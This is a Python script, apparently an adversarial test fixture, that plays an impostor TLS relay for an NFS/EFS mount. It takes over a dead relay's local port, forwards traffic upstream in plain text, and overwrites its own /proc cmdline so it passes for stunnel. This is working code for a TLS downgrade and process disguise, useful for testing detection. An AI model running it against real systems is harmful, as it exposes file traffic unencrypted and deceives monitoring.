"""An impostor TLS relay, as an unprivileged local user would run one (adversarial case 12).

python3 impostor.py PORT UPSTREAM_HOST:PORT PIDFILE ARG0 [ARG...]

Listens on 127.0.0.1:PORT (a dead relay's port: 20049-21049 are unprivileged) and forwards every
connection in plain text to UPSTREAM (the mount target's plain NFS port, as EFS serves plain NFS
on 2049). It then rewrites its own command line (/proc/self/mem over the argv area, which any
process may do to itself) to ARG0 ARG..., e.g. "/usr/bin/stunnel /var/run/efs/stunnel-config.X",
so /proc/<pid>/cmdline names the relay. Bytes forwarded each way are counted in PIDFILE.log.
Started with padding arguments long enough to hold the new command line.
"""

import os
import socket
import sys
import threading

COUNTS = {"up": 0, "down": 0}
LOCK = threading.Lock()


def set_cmdline(argv):
    """Overwrite the argv area (arg_start..arg_end, fields 48-49 of /proc/self/stat)."""
    with open("/proc/self/stat", "rb") as f:
        stat = f.read()
    fields = stat[stat.rindex(b")") + 2 :].split()
    arg_start, arg_end = int(fields[48 - 3]), int(fields[49 - 3])
    new = b"\0".join(a.encode() for a in argv) + b"\0"
    size = arg_end - arg_start
    if len(new) > size:
        raise SystemExit("argv area too small: %d < %d" % (size, len(new)))
    with open("/proc/self/mem", "r+b", buffering=0) as mem:
        mem.seek(arg_start)
        mem.write(new + b"\0" * (size - len(new)))


def pump(src, dst, key, log):
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            dst.sendall(data)
            with LOCK:
                COUNTS[key] += len(data)
                with open(log, "w") as f:
                    f.write("up %d down %d\n" % (COUNTS["up"], COUNTS["down"]))
    except OSError:
        pass
    finally:
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def main():
    port, upstream, pidfile = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    fake = [a for a in sys.argv[4:] if not a.startswith("PAD")]
    host, _sep, uport = upstream.rpartition(":")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", port))
    listener.listen(16)
    set_cmdline(fake)
    with open(pidfile + ".tmp", "w") as f:
        f.write("%d\n" % os.getpid())
    os.rename(pidfile + ".tmp", pidfile)
    log = pidfile + ".log"
    while True:
        client, _addr = listener.accept()
        server = socket.create_connection((host, int(uport)))
        threading.Thread(target=pump, args=(client, server, "up", log), daemon=True).start()
        threading.Thread(target=pump, args=(server, client, "down", log), daemon=True).start()


if __name__ == "__main__":
    main()
